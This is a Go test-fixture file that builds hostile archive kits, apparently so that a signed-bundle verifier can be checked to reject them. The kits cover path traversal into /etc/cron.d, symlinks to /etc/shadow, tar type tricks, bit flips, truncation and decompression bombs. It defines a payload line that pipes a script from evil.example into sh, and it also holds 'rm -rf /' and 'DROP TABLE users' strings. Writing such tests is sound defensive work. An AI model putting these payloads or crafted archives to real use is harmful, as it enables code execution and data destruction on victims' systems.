package hostile

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"strings"
	"time"

	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zstd"

	"github.com/offkit/offkit/bundle"
	"github.com/offkit/offkit/bundle/bundletest"
	"github.com/offkit/offkit/manifest"
	"github.com/offkit/offkit/sign"
)

// spec defines one case. Names starting "gzip-" make .tar.gz files and
// "none-" .tar files; the rest are zstd.
type spec struct {
	name, match, desc string
	knownBug          string
	make              func(g *gen) []byte
}

// Paths of the good kit's payload (bundletest's spec).
const (
	initSQL  = "migrations/001_init.sql" // "CREATE TABLE t (id int);\n", 25 bytes
	runSh    = "migrations/run.sh"       // 0755
	rollback = "rollback/rollback.js"    // the last payload file
	compSBOM = "sbom/migrations.spdx.json"
)

const evil = "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"

// appendEntry returns an edit that appends an entry with header h.
func appendEntry(h *tar.Header, data []byte) func([]*entry) []*entry {
	return func(es []*entry) []*entry {
		if h.ModTime.IsZero() {
			h.ModTime = bundletest.Epoch
		}
		if h.Format == tar.FormatUnknown {
			h.Format = tar.FormatPAX
		}
		return append(es, &entry{Header: h, Data: data})
	}
}

func regular(name string, data string) *tar.Header {
	return hdr(Root+"/"+name, int64(len(data)), manifest.ModeFile)
}

// special returns a header of typeflag typ, otherwise canonical.
func special(name string, typ byte, link string) *tar.Header {
	return &tar.Header{Name: Root + "/" + name, Typeflag: typ, Linkname: link, Mode: 0o644, ModTime: bundletest.Epoch, Format: tar.FormatPAX}
}

// rawHeader returns a ustar header block (magic "ustar\0", version "00",
// owner 0/0, the kit's mtime) with the given name, typeflag and size.
func rawHeader(name string, typ byte, size int) []byte {
	h := make([]byte, 512)
	copy(h[0:100], name)
	copy(h[100:108], "0000644\x00")
	copy(h[108:116], "0000000\x00")
	copy(h[116:124], "0000000\x00")
	copy(h[124:136], fmt.Sprintf("%011o\x00", size))
	copy(h[136:148], fmt.Sprintf("%011o\x00", bundletest.Epoch.Unix()))
	h[156] = typ
	copy(h[257:265], "ustar\x0000")
	bundletest.Checksum(h)
	return h
}

func pad(b []byte) []byte { return append(b, make([]byte, (512-len(b)%512)%512)...) }

// insertRaw inserts the raw blocks before the end-of-archive marker of
// raw (the last 1024 bytes as the writer makes it).
func insertRaw(raw, blocks []byte) []byte {
	n := len(raw) - 1024
	return append(append(append([]byte{}, raw[:n]...), blocks...), raw[n:]...)
}

// toEnd returns an edit that moves the entries whose names contain s to
// the end: a listed hostile path is then refused as the manifest is
// parsed, not at its tar header.
func toEnd(s string) func([]*entry) []*entry {
	return func(es []*entry) []*entry {
		var keep, moved []*entry
		for _, e := range es {
			if strings.Contains(e.Header.Name, s) {
				moved = append(moved, e)
			} else {
				keep = append(keep, e)
			}
		}
		return append(keep, moved...)
	}
}

// liar signs with one key but names another in its signatures.
type liar struct {
	id string
	s  *sign.Signer
}

func (l liar) KeyID() string { return l.id }
func (l liar) Sign(ctx context.Context, msg []byte) ([]byte, error) {
	return l.s.Sign(ctx, msg)
}

func specs() []spec {
	return []spec{
		// ---- paths ----
		{"traversal-dotdot", `unsafe path.*\. or \.\. element`,
			"an unlisted entry demo-1.2.3/../../etc/cron.d/offkit: a .. element leaving the root",
			"", func(g *gen) []byte {
				return g.rewrite(appendEntry(regular("../../etc/cron.d/offkit", evil), []byte(evil)))
			}},
		{"traversal-dotdot-listed", `manifest component "migrations": .*unsafe path.*\. or \.\. element`,
			"migrations/../../../etc/cron.d/offkit listed in the signed manifest and present in the payload",
			"", func(g *gen) []byte {
				f := g.forge()
				f.add("migrations", "migrations/../../../etc/cron.d/offkit", []byte(evil), manifest.ModeFile)
				f.entries = toEnd("/../")
				return f.kit(g)
			}},
		{"traversal-absolute", `unsafe path.*absolute`,
			"an unlisted entry with the absolute name /etc/cron.d/offkit",
			"", func(g *gen) []byte {
				h := hdr("/etc/cron.d/offkit", int64(len(evil)), manifest.ModeFile)
				return g.rewrite(appendEntry(h, []byte(evil)))
			}},
		{"traversal-absolute-listed", `manifest component "migrations": .*unsafe path.*absolute`,
			"/etc/cron.d/offkit listed in the signed manifest (as a file of component migrations)",
			"", func(g *gen) []byte {
				f := g.forge()
				f.add("migrations", "/etc/cron.d/offkit", []byte(evil), manifest.ModeFile)
				f.entries = toEnd("//")
				return f.kit(g)
			}},
		{"traversal-backslash", `unsafe path.*backslash`,
			`an unlisted entry demo-1.2.3/..\..\evil.bat: a Windows path separator`,
			"", func(g *gen) []byte {
				return g.rewrite(appendEntry(regular(`..\..\evil.bat`, evil), []byte(evil)))
			}},
		{"traversal-empty-element", `unsafe path.*empty element`,
			"an unlisted entry demo-1.2.3//etc/passwd: an empty element",
			"", func(g *gen) []byte {
				return g.rewrite(appendEntry(regular("/etc/passwd", evil), []byte(evil)))
			}},
		{"root-other", `root directory "evil-1\.0\.0" is not <name>-<version>`,
			"every entry under evil-1.0.0/ instead of demo-1.2.3/ (the manifest says demo 1.2.3)",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					for _, e := range es {
						e.Header.Name = "evil-1.0.0" + strings.TrimPrefix(e.Header.Name, Root)
					}
					return es
				})
			}},
		{"root-outside", `outside the root directory`,
			"a payload entry demo-1.2.4/evil.sh, beside the root rather than under it",
			"", func(g *gen) []byte {
				h := hdr("demo-1.2.4/evil.sh", int64(len(evil)), manifest.ModeFile)
				return g.rewrite(appendEntry(h, []byte(evil)))
			}},
		{"root-dot", `unsafe path.*\. or \.\. element`,
			"every entry under ./ : the root is the current directory",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					for _, e := range es {
						e.Header.Name = "." + strings.TrimPrefix(e.Header.Name, Root)
					}
					return es
				})
			}},
		{"root-nested", `the first entry must be the root directory`,
			"every entry under x/demo-1.2.3/: a root two levels deep",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					for _, e := range es {
						e.Header.Name = "x/" + e.Header.Name
					}
					return es
				})
			}},
		{"root-missing", `the first entry must be the root directory`,
			"no root directory entry: the archive starts with demo-1.2.3/manifest.dsse.json",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry { return es[1:] })
			}},
		{"unicode-nfd-unlisted", `unsafe path.*normalization form C`,
			"an unlisted entry migrations/cafe\u0301.sql, decomposed (NFD)",
			"", func(g *gen) []byte {
				return g.rewrite(appendEntry(regular("migrations/cafe\u0301.sql", evil), []byte(evil)))
			}},
		{"unicode-nfc-nfd-collision", `manifest component "migrations": .*unsafe path.*normalization form C`,
			"migrations/caf\u00e9.sql (NFC) and migrations/cafe\u0301.sql (NFD), both listed in the signed manifest and present: one file on macOS",
			"", func(g *gen) []byte {
				f := g.forge()
				f.add("migrations", "migrations/caf\u00e9.sql", []byte("SELECT 1;\n"), manifest.ModeFile)
				f.add("migrations", "migrations/cafe\u0301.sql", []byte(evil), manifest.ModeFile)
				return f.kit(g)
			}},
		{"case-collision", `unsafe path: manifest: "migrations/run\.sh" collides with "migrations/RUN\.sh"`,
			"migrations/RUN.sh and migrations/run.sh, both listed in the signed manifest and present: one file on macOS and Windows",
			"", func(g *gen) []byte {
				f := g.forge()
				f.add("migrations", "migrations/RUN.sh", []byte(evil), manifest.ModeExec)
				return f.kit(g)
			}},
		{"case-collision-dir", `unsafe path: manifest: directory "migrations/sub" collides with "migrations/SUB"`,
			"migrations/SUB/evil.sql beside migrations/sub/, both listed in the signed manifest: one directory on macOS and Windows",
			"", func(g *gen) []byte {
				f := g.forge()
				f.add("migrations", "migrations/SUB/evil.sql", []byte(evil), manifest.ModeFile)
				return f.kit(g)
			}},
		{"case-collision-sigma", `unsafe path: manifest: .* collides with`,
			"migrations/\u03c3.sql and migrations/\u03c2.sql (sigma and final sigma), both listed in the signed manifest: one file where names are case-folded (NTFS)",
			"", func(g *gen) []byte {
				f := g.forge()
				f.add("migrations", "migrations/\u03c3.sql", []byte("SELECT 1;\n"), manifest.ModeFile)
				f.add("migrations", "migrations/\u03c2.sql", []byte(evil), manifest.ModeFile)
				return f.kit(g)
			}},
		{"case-collision-unlisted", `"demo-1\.2\.3/migrations/RUN\.sh": .*not listed`,
			"an unlisted entry migrations/RUN.sh, in order, just before the listed migrations/run.sh",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, runSh)
					e := file(Root+"/migrations/RUN.sh", []byte(evil), manifest.ModeExec)
					return append(es[:i], append([]*entry{e}, es[i:]...)...)
				})
			}},

		// ---- entry types ----
		{"type-symlink", `type "2" is not a regular file or directory`,
			"a symbolic link migrations/zz-link -> /etc/passwd",
			"", func(g *gen) []byte {
				h := special("migrations/zz-link", tar.TypeSymlink, "/etc/passwd")
				h.Mode = 0o777
				return g.rewrite(appendEntry(h, nil))
			}},
		{"type-symlink-replaces-dir", `type "2" is not a regular file or directory`,
			"the directory migrations/sub/ replaced by a symbolic link to /tmp, its files following it",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, "migrations/sub/")
					h := special("migrations/sub", tar.TypeSymlink, "/tmp")
					h.Mode = 0o777
					es[i] = &entry{Header: h}
					return es
				})
			}},
		{"type-hardlink", `type "1" is not a regular file or directory`,
			"a hard link migrations/zz-link to /etc/shadow",
			"", func(g *gen) []byte {
				return g.rewrite(appendEntry(special("migrations/zz-link", tar.TypeLink, "/etc/shadow"), nil))
			}},
		{"type-chardev", `type "3" is not a regular file or directory`,
			"a character device migrations/zz-null (1, 3)",
			"", func(g *gen) []byte {
				h := special("migrations/zz-null", tar.TypeChar, "")
				h.Devmajor, h.Devminor = 1, 3
				return g.rewrite(appendEntry(h, nil))
			}},
		{"type-blockdev", `type "4" is not a regular file or directory`,
			"a block device migrations/zz-sda (8, 0)",
			"", func(g *gen) []byte {
				h := special("migrations/zz-sda", tar.TypeBlock, "")
				h.Devmajor = 8
				return g.rewrite(appendEntry(h, nil))
			}},
		{"type-fifo", `type "6" is not a regular file or directory`,
			"a FIFO migrations/zz-fifo",
			"", func(g *gen) []byte {
				return g.rewrite(appendEntry(special("migrations/zz-fifo", tar.TypeFifo, ""), nil))
			}},
		{"type-contiguous", `type "7" is not a regular file or directory`,
			"a contiguous file (type 7) migrations/zz-cont",
			"", func(g *gen) []byte {
				h := special("migrations/zz-cont", tar.TypeCont, "")
				return g.rewrite(appendEntry(h, []byte(evil)))
			}},
		{"type-pax-global", `type "g" is not a regular file or directory`,
			"a pax global header (type g) before the root, setting path for every entry",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					h := &tar.Header{Typeflag: tar.TypeXGlobalHeader, Name: "pax_global_header", PAXRecords: map[string]string{"path": "etc/cron.d/offkit"}, Format: tar.FormatPAX}
					return append([]*entry{{Header: h}}, es...)
				})
			}},
		{"type-gnu-longname", `"demo-1\.2\.3/\.\./etc/cron\.d/offkit": .*not USTAR or PAX`,
			"a GNU long-name entry (type L, ././@LongLink) renaming the next entry to etc/cron.d/offkit",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					long := Root + "/../etc/cron.d/offkit\x00"
					blk := append(rawHeader("././@LongLink", 'L', len(long)), pad([]byte(long))...)
					blk = append(blk, rawHeader(Root+"/zz", '0', len(evil))...)
					blk = append(blk, pad([]byte(evil))...)
					return insertRaw(raw, blk)
				})
			}},
		{"type-gnu-longlink", `"demo-1\.2\.3/zz": .*not USTAR or PAX`,
			"a GNU long-link entry (type K) before a symbolic link",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					long := "/etc/" + strings.Repeat("x", 120) + "\x00"
					blk := append(rawHeader("././@LongLink", 'K', len(long)), pad([]byte(long))...)
					blk = append(blk, rawHeader(Root+"/zz", '2', 0)...)
					return insertRaw(raw, blk)
				})
			}},
		{"type-gnu-sparse", `corrupt kit: tar: archive/tar: invalid tar header`,
			"a GNU sparse file (type S) migrations/zz-sparse",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					blk := append(rawHeader(Root+"/migrations/zz-sparse", 'S', len(evil)), pad([]byte(evil))...)
					return insertRaw(raw, blk)
				})
			}},
		{"type-gnu-volume", `type "V" is not a regular file or directory`,
			"a GNU volume header (type V)",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte { return insertRaw(raw, rawHeader(Root+"/zz-volume", 'V', 0)) })
			}},
		{"type-gnu-multivolume", `type "M" is not a regular file or directory`,
			"a GNU multi-volume continuation (type M)",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					return insertRaw(raw, append(rawHeader(Root+"/zz-multi", 'M', len(evil)), pad([]byte(evil))...))
				})
			}},
		{"type-gnu-dumpdir", `type "D" is not a regular file or directory`,
			"a GNU dump directory (type D)",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte { return insertRaw(raw, rawHeader(Root+"/zz-dumpdir/", 'D', 0)) })
			}},
		{"type-vendor", `type "Z" is not a regular file or directory`,
			"an entry of an unknown vendor type (Z)",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					return insertRaw(raw, append(rawHeader(Root+"/zz-vendor", 'Z', len(evil)), pad([]byte(evil))...))
				})
			}},
		{"type-nul", `canonical`,
			"a listed file with typeflag NUL (old regular file), which Go reads as a regular file",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					h := raw[g.block(raw, initSQL).Off:][:512]
					h[156] = 0
					bundletest.Checksum(h)
					return raw
				})
			}},
		{"type-sbom-dir-as-file", `"demo-1\.2\.3/sbom/": .*regular file's name may not end in /`,
			"the head's sbom/ entry as a regular file (GNU tar would parse its content as entries)",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					h := raw[g.block(raw, "sbom/").Off:][:512]
					h[156] = '0'
					bundletest.Checksum(h)
					return raw
				})
			}},

		// ---- duplicates, missing and extra entries ----
		{"duplicate-first", `"demo-1\.2\.3/migrations/001_init\.sql": .*duplicate`,
			"the first payload file, migrations/001_init.sql, twice in a row, identical",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, initSQL)
					return append(es[:i+1], es[i:]...)
				})
			}},
		{"duplicate-last", `"demo-1\.2\.3/rollback/rollback\.js": .*duplicate`,
			"the last payload file, rollback/rollback.js, again at the end with other content (tar -x keeps the last)",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					return append(es, file(Root+"/"+rollback, []byte(evil), manifest.ModeFile))
				})
			}},
		{"duplicate-hostile-first", `"migrations/001_init\.sql": .*digest mismatch`,
			"a hostile copy of migrations/001_init.sql, same size, before the genuine one",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, initSQL)
					e := file(Root+"/"+initSQL, []byte("DROP TABLE users; --xxxx\n"), manifest.ModeFile)
					return append(es[:i], append([]*entry{e}, es[i:]...)...)
				})
			}},
		{"duplicate-dir", `"demo-1\.2\.3/migrations/sub/": .*duplicate`,
			"the directory migrations/sub/ twice",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, "migrations/sub/")
					return append(es[:i+1], es[i:]...)
				})
			}},
		{"duplicate-envelope", `expected "demo-1\.2\.3/SHA256SUMS" here`,
			"manifest.dsse.json twice at the head",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry { return append(es[:2], es[1:]...) })
			}},
		{"duplicate-sbom", `sbom/kit\.spdx\.json": .*not named by the manifest, or out of order`,
			"sbom/kit.spdx.json twice at the head",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, manifest.KitSBOMName)
					return append(es[:i+1], es[i:]...)
				})
			}},
		{"unlisted-file", `"demo-1\.2\.3/zzz_extra\.sql": .*not listed`,
			"a file zzz_extra.sql that the manifest does not list, in order at the end",
			"", func(g *gen) []byte {
				return g.rewrite(appendEntry(regular("zzz_extra.sql", "DROP TABLE t;\n"), []byte("DROP TABLE t;\n")))
			}},
		{"unlisted-in-sbom-dir", `"demo-1\.2\.3/sbom/evil\.sh": .*not named by the manifest`,
			"an unlisted file sbom/evil.sh right after the SBOMs",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, compSBOM) + 1
					e := file(Root+"/sbom/evil.sh", []byte(evil), manifest.ModeExec)
					return append(es[:i], append([]*entry{e}, es[i:]...)...)
				})
			}},
		{"unlisted-head-name", `"demo-1\.2\.3/manifest\.dsse\.json": .*not listed`,
			"a second manifest.dsse.json as the first payload entry, to overwrite the head file unpack wrote",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, "migrations/")
					e := file(Root+"/"+manifest.EnvelopeName, []byte(`{"payloadType":"x"}`), manifest.ModeFile)
					return append(es[:i], append([]*entry{e}, es[i:]...)...)
				})
			}},
		{"unlisted-dir", `"demo-1\.2\.3/zzz/": .*directory not implied`,
			"an empty directory zzz/ that no listed file implies",
			"", func(g *gen) []byte { return g.rewrite(appendEntry(hdr(Root+"/zzz/", 0, ""), nil)) }},
		{"listed-absent", `listed file\(s\) missing from the archive, first "migrations/001_init\.sql"`,
			"migrations/001_init.sql listed but not in the archive",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, initSQL)
					return append(es[:i], es[i+1:]...)
				})
			}},
		{"listed-dir-absent", `its directory migrations/sub/deep/ has not appeared before it`,
			"the directory migrations/sub/deep/ missing, its file present",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					i := index(es, "migrations/sub/deep/")
					return append(es[:i], es[i+1:]...)
				})
			}},

		// ---- bit flips ----
		{"flip-payload", `"migrations/001_init\.sql": .*digest mismatch`,
			"one bit flipped in the content of migrations/001_init.sql",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					raw[g.block(raw, initSQL).Off+512+7] ^= 0x01
					return raw
				})
			}},
		{"flip-envelope", `signature 1: claims trusted key .* but does not verify`,
			"one bit flipped in manifest.dsse.json's payload (a letter of the description changes; the statement stays valid)",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					b := g.block(raw, manifest.EnvelopeName)
					env := raw[b.Off+512 : b.Off+512+b.Size]
					b64, at := payloadB64(env)
					stmt := g.statement()
					from := bytes.Index(stmt, []byte(`"description":"a test kit"`)) + len(`"description":"`)
					i, c := flipInBase64(b64, from, from+len("a test kit"))
					env[at+i] = c
					return raw
				})
			}},
		{"flip-sums", `SHA256SUMS": .*does not match the signed statement`,
			"one bit flipped in a digest in SHA256SUMS",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					b := g.block(raw, manifest.SumsName)
					sums := raw[b.Off+512 : b.Off+512+b.Size]
					i := bytes.IndexAny(sums[100:], "0123456789") + 100
					sums[i] ^= 0x01
					return raw
				})
			}},
		{"flip-sums-sig", `SHA256SUMS\.sig does not verify`,
			"one bit flipped in SHA256SUMS.sig (still base64)",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					b := g.block(raw, manifest.SumsSigName)
					sig := raw[b.Off+512 : b.Off+512+b.Size]
					// A letter in the middle: the low bit keeps it a letter.
					i := bytes.IndexAny(sig[len(sig)/2:], "BCDEFGHIJKLMNOPQRSTUVWXYbcdefghijklmnopqrstuvwxy") + len(sig)/2
					sig[i] ^= 0x01
					return raw
				})
			}},
		{"flip-sbom", `sbom/migrations\.spdx\.json": .*does not match its digest in the signed statement`,
			"one bit flipped in the component SBOM sbom/migrations.spdx.json",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					b := g.block(raw, compSBOM)
					sbom := raw[b.Off+512 : b.Off+512+b.Size]
					sbom[bytes.Index(sbom, []byte(`"runner"`))+1] ^= 0x01
					return raw
				})
			}},
		{"flip-kit-sbom", `sbom/kit\.spdx\.json": .*does not match the signed statement`,
			"one bit flipped in sbom/kit.spdx.json",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					b := g.block(raw, manifest.KitSBOMName)
					sbom := raw[b.Off+512 : b.Off+512+b.Size]
					sbom[bytes.Index(sbom, []byte(`"NOASSERTION"`))+1] ^= 0x01
					return raw
				})
			}},
		{"flip-header-checksum", `invalid tar header`,
			"one bit flipped in the name field of migrations/001_init.sql's tar header, the checksum left as it was",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					raw[g.block(raw, initSQL).Off+len(Root+"/"+initSQL)-1] ^= 0x01
					return raw
				})
			}},
		{"flip-header-name", `"demo-1\.2\.3/migrations/001_init\.sqm": .*not listed`,
			"one bit flipped in the name of migrations/001_init.sql's tar header (now .sqm), checksum recomputed",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					h := raw[g.block(raw, initSQL).Off:][:512]
					h[len(Root+"/"+initSQL)-1] ^= 0x01
					bundletest.Checksum(h)
					return raw
				})
			}},
		{"flip-header-size", `"demo-1\.2\.3/migrations/001_init\.sql": .*size 24, the manifest says 25`,
			"one bit flipped in the size of migrations/001_init.sql's tar header (25 -> 24), checksum recomputed",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					h := raw[g.block(raw, initSQL).Off:][:512]
					h[134] ^= 0x01 // last octal digit
					bundletest.Checksum(h)
					return raw
				})
			}},
		{"flip-header-mode", `mode 0645 is not 0644 or 0755`,
			"one bit flipped in the mode of migrations/001_init.sql's tar header (0644 -> 0645), checksum recomputed",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					h := raw[g.block(raw, initSQL).Off:][:512]
					h[106] ^= 0x01
					bundletest.Checksum(h)
					return raw
				})
			}},
		{"flip-zstd-payload", `corrupt kit`,
			"one bit flipped in the middle of the payload's zstd frame, as the writer made it",
			"", func(g *gen) []byte {
				k := bytes.Clone(g.kit)
				f := frames(k)
				k[(f[1]+f[2])/2] ^= 0x10
				return k
			}},
		{"flip-zstd-checksum", `corrupt kit: zstd frame at offset \d+: CRC check failed`,
			"one bit flipped in the content checksum that ends the payload's zstd frame",
			"", func(g *gen) []byte {
				k := bytes.Clone(g.kit)
				k[len(k)-1] ^= 0x01
				return k
			}},
		{"gzip-flip-payload", `corrupt kit`,
			"a gzip kit as the writer made it, one bit flipped in the middle of the payload's member",
			"", func(g *gen) []byte {
				k := g.gzipKit()
				k[(lastMember(k)+len(k))/2] ^= 0x10
				return k
			}},
		{"gzip-flip-crc", `corrupt kit: after the tar trailer: gzip: invalid checksum`,
			"a gzip kit, one bit flipped in the CRC-32 that ends the payload's member",
			"", func(g *gen) []byte {
				k := g.gzipKit()
				k[len(k)-8] ^= 0x01
				return k
			}},

		// ---- SHA256SUMS ----
		{"sums-recomputed", `SHA256SUMS": .*does not match the signed statement`,
			"migrations/001_init.sql replaced and its SHA256SUMS line recomputed to match",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					f := g.find(es, initSQL)
					old := manifest.SHA256(f.Data).Hex()
					f.Data = []byte("DROP TABLE t;\n")
					s := g.find(es, manifest.SumsName)
					s.Data = g.replaceOnce(s.Data, old, manifest.SHA256(f.Data).Hex())
					return es
				})
			}},
		{"sums-extra-line", `SHA256SUMS": .*does not match the signed statement`,
			"a line for an extra file evil.sh added to SHA256SUMS, and the file to the payload",
			"", func(g *gen) []byte {
				return g.rewrite(func(es []*entry) []*entry {
					s := g.find(es, manifest.SumsName)
					s.Data = append(s.Data, []byte(manifest.SHA256([]byte(evil)).Hex()+"  zz-evil.sh\n")...)
					return append(es, file(Root+"/zz-evil.sh", []byte(evil), manifest.ModeExec))
				})
			}},

		// ---- truncation and trailing data ----
		{"truncated-mid-payload", `archive is truncated`,
			"the kit cut in the middle of the payload's zstd frame",
			"", func(g *gen) []byte {
				f := frames(g.kit)
				return bytes.Clone(g.kit[:(f[1]+f[2])/2])
			}},
		{"truncated-mid-head", `archive is truncated`,
			"the kit cut in the middle of the head's zstd frame",
			"", func(g *gen) []byte {
				f := frames(g.kit)
				return bytes.Clone(g.kit[:f[1]/2])
			}},
		{"truncated-mid-entry", `"migrations/sub/deep/x\.json": .*archive is truncated|archive is truncated`,
			"the tar stream cut inside migrations/sub/deep/x.json's content, then compressed cleanly",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte {
					return raw[:g.block(raw, "migrations/sub/deep/x.json").Off+512+2]
				})
			}},
		{"truncated-at-end-marker", `archive is truncated: no tar end-of-archive marker`,
			"the tar stream's end-of-archive marker cut to one zero block, then compressed cleanly",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte { return raw[:len(raw)-512] })
			}},
		{"truncated-no-end-marker", `archive is truncated: no tar end-of-archive marker`,
			"no end-of-archive marker at all, compressed cleanly",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte { return raw[:len(raw)-1024] })
			}},
		{"gzip-truncated", `archive is truncated`,
			"a gzip kit cut in the middle of the payload's member",
			"", func(g *gen) []byte {
				k := g.gzipKit()
				return k[:(lastMember(k)+len(k))/2]
			}},
		{"trailing-garbage-frame", `after the tar trailer: .*zstd frame at offset \d+: does not declare its content size`,
			"the signed kit, untouched, followed by a zstd frame of non-zero bytes",
			"", func(g *gen) []byte {
				return append(bytes.Clone(g.kit), zst([]byte("#!/bin/sh\nrm -rf /\n"))...)
			}},
		{"trailing-garbage-in-frame", `data after the tar end-of-archive marker`,
			"non-zero bytes after the end-of-archive marker, in the same stream",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte { return append(raw, []byte("garbage\n")...) })
			}},
		{"trailing-garbage-raw", `after the tar trailer: .*corrupt kit: not a zstd frame at offset \d+`,
			"the signed kit, untouched, followed by bytes that are not a zstd frame",
			"", func(g *gen) []byte { return append(bytes.Clone(g.kit), []byte("garbage after the kit\n")...) }},
		{"trailing-zeros-over-limit", `data after the tar end-of-archive marker`,
			"1 MiB + 512 zero bytes after the end-of-archive marker (MaxTrailer is 1 MiB)",
			"", func(g *gen) []byte {
				return g.editRaw(func(raw []byte) []byte { return append(raw, make([]byte, bundle.MaxTrailer+512)...) })
			}},
		{"none-trailing-garbage", `data after the tar end-of-archive marker`,
			"an uncompressed kit followed by non-zero bytes",
			"", func(g *gen) []byte { return append(g.raw(), []byte("garbage\n")...) }},

		// ---- decompression bombs ----
		{"bomb-unlisted", `"demo-1\.2\.3/zzz/zeros": .*not listed`,
			"an unlisted entry zzz/zeros whose header claims 3 GiB; 64 KiB of zeros follow, then the stream ends",
			"", func(g *gen) []byte {
				es := g.entries()
				raw := g.tarStream(es, false)
				var b bytes.Buffer
				tw := tar.NewWriter(&b)
				g.must(tw.WriteHeader(hdr(Root+"/zzz/zeros", 3<<30, manifest.ModeFile)))
				raw = append(raw, b.Bytes()...)
				return zst(append(raw, make([]byte, 64<<10)...))
			}},
		{"bomb-listed", `"demo-1\.2\.3/migrations/001_init\.sql": .*size 3221225472, the manifest says 25`,
			"migrations/001_init.sql's header claims 3 GiB (the manifest says 25 bytes); 64 KiB of zeros follow, then the stream ends",
			"", func(g *gen) []byte {
				es := g.entries()
				i := index(es, initSQL)
				raw := g.tarStream(es[:i], false)
				var b bytes.Buffer
				tw := tar.NewWriter(&b)
				g.must(tw.WriteHeader(hdr(Root+"/"+initSQL, 3<<30, manifest.ModeFile)))
				raw = append(raw, b.Bytes()...)
				return zst(append(raw, make([]byte, 64<<10)...))
			}},
		{"bomb-head", `"demo-1\.2\.3/SHA256SUMS": .*over the limit of 67108864`,
			"SHA256SUMS's header claims 64 MiB + 1 (MaxSumsSize is 64 MiB); 64 KiB follow, then the stream ends",
			"", func(g *gen) []byte {
				es := g.entries()
				raw := g.tarStream(es[:2], false)
				var b bytes.Buffer
				tw := tar.NewWriter(&b)
				g.must(tw.WriteHeader(hdr(Root+"/"+manifest.SumsName, manifest.MaxSumsSize+1, manifest.ModeFile)))
				raw = append(raw, b.Bytes()...)
				return zst(append(raw, bytes.Repeat(g.find(es, manifest.SumsName).Data, 100)...))
			}},

		// ---- JSON ----
		{"envelope-malformed-json", `manifest\.dsse\.json: .*malformed`,
			"manifest.dsse.json cut short: not valid JSON",
			"", func(g *gen) []byte {
				env := g.find(g.entries(), manifest.EnvelopeName).Data
				return g.withEnvelope(env[:len(env)/2])
			}},
		{"envelope-duplicate-key", `manifest\.dsse\.json: .*only in the form it writes`,
			`manifest.dsse.json with a second "payload" key holding another statement ({})`,
			"", func(g *gen) []byte {
				env := g.find(g.entries(), manifest.EnvelopeName).Data
				return g.withEnvelope(g.replaceOnce(env, `{"payloadType"`, `{"payload":"e30=","payloadType"`))
			}},
		{"envelope-duplicate-key-escaped", `manifest\.dsse\.json: .*only in the form it writes`,
			`manifest.dsse.json with a second payload key spelled "payl\u006fad"`,
			"", func(g *gen) []byte {
				env := g.find(g.entries(), manifest.EnvelopeName).Data
				return g.withEnvelope(g.replaceOnce(env, `,"signatures"`, `,"payl\u006fad":"e30=","signatures"`))
			}},
		{"envelope-unknown-field", `manifest\.dsse\.json: .*only in the form it writes`,
			`manifest.dsse.json with an unknown field "payloadEncoding"`,
			"", func(g *gen) []byte {
				env := g.find(g.entries(), manifest.EnvelopeName).Data
				return g.withEnvelope(g.replaceOnce(env, `{"payloadType"`, `{"payloadEncoding":"gzip","payloadType"`))
			}},
		{"envelope-trailing-data", `manifest\.dsse\.json: .*data after the envelope`,
			"manifest.dsse.json followed by a second JSON value",
			"", func(g *gen) []byte {
				env := g.find(g.entries(), manifest.EnvelopeName).Data
				return g.withEnvelope(append(bytes.Clone(env), []byte(`{"payloadType":"x"}`+"\n")...))
			}},
